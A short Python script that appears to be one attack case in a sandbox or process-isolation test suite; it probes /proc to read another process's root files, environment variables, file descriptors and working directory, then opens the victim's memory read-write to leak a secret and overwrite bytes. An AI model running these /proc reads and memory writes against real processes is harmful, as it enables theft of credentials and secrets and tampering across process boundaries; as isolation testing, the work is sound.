# SPDX-License-Identifier: Apache-2.0
# attack: other processes' roots, environments, memories and descriptors
# class: proc
# wins: leak victim
# needs: victim
from kit import *

tried()
# natively only the victim: other processes' pipes are not to be read empty
for pid in (F['vpid'],) if NATIVE else (F['vpid'], 1, os.getppid()):
    take('/proc/%d/root' % pid + SECRET)
    fd = openat('/proc/%d/environ' % pid)
    if fd >= 0:
        os.write(1, os.read(fd, 65536))
    for n in [F['vfd']] if NATIVE else list(range(0, 12)):
        take('/proc/%d/fd/%d' % (pid, n))
    take('/proc/%d/cwd/../box1/twin.txt' % pid)
    take('/proc/self/../%d/environ' % pid)
m = openat('/proc/%d/mem' % F['vpid'], os.O_RDWR)
if m >= 0:
    os.write(1, os.pread(m, F['vsecret_len'], F['vsecret']))
    os.pwrite(m, b'changed', F['vplain'])
